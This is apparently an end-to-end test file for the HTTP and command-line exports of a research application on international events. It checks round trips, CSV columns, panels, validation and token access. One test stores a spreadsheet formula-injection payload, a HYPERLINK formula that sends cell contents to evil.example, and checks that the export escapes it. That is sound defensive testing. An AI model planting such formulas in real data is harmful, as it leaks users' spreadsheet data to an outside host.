import { copyFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { readGdeltRow, researchEventId } from '@app/domain';
import { EVENT_CSV_COLUMNS } from '../libs/application/src/exports/event-export';
import {
  cli,
  createToken,
  gql,
  removeDir,
  ROOT,
  startServer,
  tempDataDir,
  type RunningServer,
} from './support/server';

const FIXTURES = join(ROOT, 'libs', 'domain', 'src', 'research-formats', 'fixtures');

describe('exports over HTTP and from the command line', () => {
  const dataDir = tempDataDir('dt-exports-');
  const env = { ...process.env, DATA_DIR: dataDir, LOG_LEVEL: 'warn' };
  let server: RunningServer;
  let beforeImport: string;
  const get = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${server.url}${path}`, { headers });
  const lines = (text: string) =>
    text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Record<string, any>);

  beforeAll(async () => {
    // First start: the US–Cuba history is loaded into the empty store.
    const seeding = await startServer({ dataDir });
    await seeding.stop();
    beforeImport = new Date().toISOString();
    for (const [format, name] of [
      ['gdelt', 'gdelt-v2.export.CSV'],
      ['cow-dipex', 'cow-dipex.csv'],
    ]) {
      copyFileSync(join(FIXTURES, name), join(dataDir, name));
      const result = cli(['import', '--format', format, join(dataDir, name)], env);
      if (result.status !== 0) throw new Error(result.stderr + result.stdout);
    }
    server = await startServer({ dataDir });
  }, 120_000);

  afterAll(async () => {
    await server?.stop();
    removeDir(dataDir);
  });

  it('round trip: the GDELT rows imported come back out of events.ndjson as they went in', async () => {
    const response = await get('/exports/events.ndjson?datasets=gdelt');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    const exported = lines(await response.text());
    const expected = readFileSync(join(FIXTURES, 'gdelt-v2.export.CSV'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => readGdeltRow(line.split('\t')))
      .flatMap((outcome) => (outcome.kind === 'record' ? [outcome.input] : []));
    const unique = [...new Map(expected.map((input) => [input.id, input])).values()];
    expect(exported.map((e) => e.id).sort()).toEqual(unique.map((i) => i.id).sort());
    for (const input of unique) {
      const out = exported.find((e) => e.id === input.id)!;
      expect(out).toMatchObject({
        kind: input.kind,
        title: input.title,
        occurred: input.occurred,
        countries: [...(input.countries as string[])].sort(),
        cameo: { code: input.cameo },
        effects: [],
        provenance: input.provenance,
      });
    }
    expect(exported.find((e) => e.id === researchEventId('gdelt', '1002'))?.location).toBe(
      'Berlin, Berlin, Germany (DEU)',
    );
  });

  it('events.csv: the column dictionary as header, the same records as GraphQL, knownAt honoured', async () => {
    const text = await (await get('/exports/events.csv?countries=USA,CUB')).text();
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual([...EVENT_CSV_COLUMNS]);
    const graphql = await gql(
      server.url,
      '{ events(filter: { countries: ["USA", "CUB"] }) { totalCount } }',
    );
    expect(rows).toHaveLength(graphql.data!.events.totalCount);
    const past = parse(
      await (
        await get(
          `/exports/events.csv?countries=USA,CUB&knownAt=${encodeURIComponent(beforeImport)}`,
        )
      ).text(),
    ) as string[][];
    const datasetColumn = EVENT_CSV_COLUMNS.indexOf('dataset');
    expect(past.slice(1).every((row) => row[datasetColumn] === '')).toBe(true);
    expect(rows.some((row) => row[datasetColumn] === 'cow-dipex')).toBe(true);
    expect(past.length - 1).toBeLessThan(rows.length);
  });

  it('events.plover.jsonl: PLOVER event, mode and context of every record that has them', async () => {
    const plover = lines(await (await get('/exports/events.plover.jsonl?datasets=gdelt')).text());
    expect(plover.length).toBeGreaterThan(0);
    expect(plover.every((p) => typeof p.event_type === 'string')).toBe(true);
    expect(plover.find((p) => p.row_id === '1001')).toMatchObject({
      event_type: 'CONSULT',
      cameo_code: '040',
    });
  });

  it('panel.csv: one row per period, the relationship at each period end as GraphQL answers it', async () => {
    const response = await get('/exports/panel.csv?between=USA,CUB&every=year&from=1960&to=2022');
    expect(response.status).toBe(200);
    const [header, ...rows] = parse(await response.text()) as string[][];
    expect(rows).toHaveLength(63);
    const column = (name: string) => header.indexOf(name);
    for (const year of ['1960', '1962', '1978', '2016', '2022']) {
      const row = rows.find((r) => r[0] === year)!;
      const answer = await gql(
        server.url,
        `{ relationship(between: ["USA", "CUB"], asOf: "${year}-12-31") {
            relations { level since certain } embassies { of in status } } }`,
      );
      const { relations, embassies } = answer.data!.relationship;
      expect([
        row[column('relations_level')],
        row[column('relations_since')],
        row[column('relations_certain')],
      ]).toEqual(
        relations ? [relations.level, relations.since, String(relations.certain)] : ['', '', ''],
      );
      const usaInCuba = embassies.find((e: { of: string }) => e.of === 'USA');
      expect(row[column('embassy_USA_in_CUB')]).toBe(usaInCuba?.status ?? '');
    }
    const events = await gql(
      server.url,
      '{ events(filter: { countries: ["USA", "CUB"], occurredFrom: "1960", occurredTo: "2022" }, first: 200) { edges { node { occurredStart } } } }',
    );
    const starting = events.data!.events.edges.filter(
      (e: { node: { occurredStart: string } }) => e.node.occurredStart >= '1960-01-01',
    ).length;
    expect(rows.reduce((sum, r) => sum + Number(r[column('event_count')]), 0)).toBe(starting);
  });

  it('refuses bad parameters with 400, naming them, and a bad token with 401', async () => {
    const refusal = async (path: string) => {
      const response = await get(path);
      expect(response.status).toBe(400);
      const body = (await response.json()) as {
        error: { code: string; fields: { path: string }[] };
      };
      expect(body.error.code).toBe('BAD_USER_INPUT');
      return body.error.fields.map((f) => f.path);
    };
    expect(await refusal('/exports/events.csv?countries=XX1')).toEqual(['countries[0]']);
    expect(await refusal('/exports/events.csv?knownAt=yesterday')).toEqual(['knownAt']);
    expect(await refusal('/exports/events.ndjson?country=USA')).toEqual(['country']);
    expect(await refusal('/exports/panel.csv?between=USA&every=week&from=1960')).toEqual([
      'between',
      'every',
      'to',
    ]);
    expect(await refusal('/exports/panel.csv?between=USA,CUB&from=2000&to=1990')).toEqual(['to']);
    expect(
      await refusal('/exports/panel.csv?between=USA,CUB&every=month&from=1800&to=2022'),
    ).toEqual(['to']);
    const bad = await get('/exports/events.csv', { authorization: 'Bearer not-a-token' });
    expect(bad.status).toBe(401);
  });

  it('answers other origins (CORS) like every read', async () => {
    const response = await get('/exports/events.csv?datasets=gdelt', {
      origin: 'https://example.org',
    });
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
    await response.text();
  });

  it('the command line exports the same bytes as HTTP for the same parameters', async () => {
    const knownAt = new Date().toISOString();
    const http = await (
      await get(`/exports/events.csv?countries=USA,CUB&knownAt=${knownAt}`)
    ).text();
    const local = cli(
      ['export', 'events.csv', '--countries', 'USA,CUB', '--knownAt', knownAt],
      env,
    );
    expect(local.status).toBe(0);
    expect(local.stdout).toBe(http);
  });
  it('writes a cell that a spreadsheet would run as text, and pads years before 1000', async () => {
    // Last in this block: the record it adds would change the other exports' answers.
    const editor = createToken(server.env, 'export-editor', 'editor');
    const title = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const recorded = await gql(
      server.url,
      `mutation($input: RecordEventInput!) { recordEvent(input: $input) { id } }`,
      {
        input: {
          kind: 'TALKS',
          title,
          occurred: '2023-05-01',
          countries: ['USA', 'CUB'],
          sources: [{ title: 'Statement', publisher: 'Example Ministry' }],
        },
      },
      editor,
    );
    expect(recorded.errors).toBeUndefined();
    const csv = await (
      await get('/exports/events.csv?occurredFrom=2023-05-01&occurredTo=2023-05-01')
    ).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const panel = await (await get('/exports/panel.csv?between=USA,CUB&from=0998&to=1001')).text();
    const rows = panel.trim().split('\n').slice(1);
    expect(rows.map((row) => row.split(',')[0])).toEqual(['0998', '0999', '1000', '1001']);
  });
});

describe('exports when reads are private', () => {
  let server: RunningServer;

  beforeAll(async () => {
    server = await startServer({ env: { PUBLIC_READ: 'false' } });
  });
  afterAll(async () => {
    await server?.stop();
    if (server) removeDir(server.dataDir);
  });

  it('need a valid token, like every read; a revoked one is refused', async () => {
    const path = `${server.url}/exports/panel.csv?between=USA,CUB&from=2014&to=2016`;
    expect((await fetch(path)).status).toBe(401);
    const reader = createToken(server.env, 'export-reader', 'reader');
    const allowed = await fetch(path, { headers: { authorization: `Bearer ${reader}` } });
    expect(allowed.status).toBe(200);
    expect((await allowed.text()).trim().split('\n')).toHaveLength(4);
    expect(cli(['tokens', 'revoke', 'export-reader'], server.env).status).toBe(0);
    const revoked = await fetch(path, { headers: { authorization: `Bearer ${reader}` } });
    expect(revoked.status).toBe(401);
  });
});
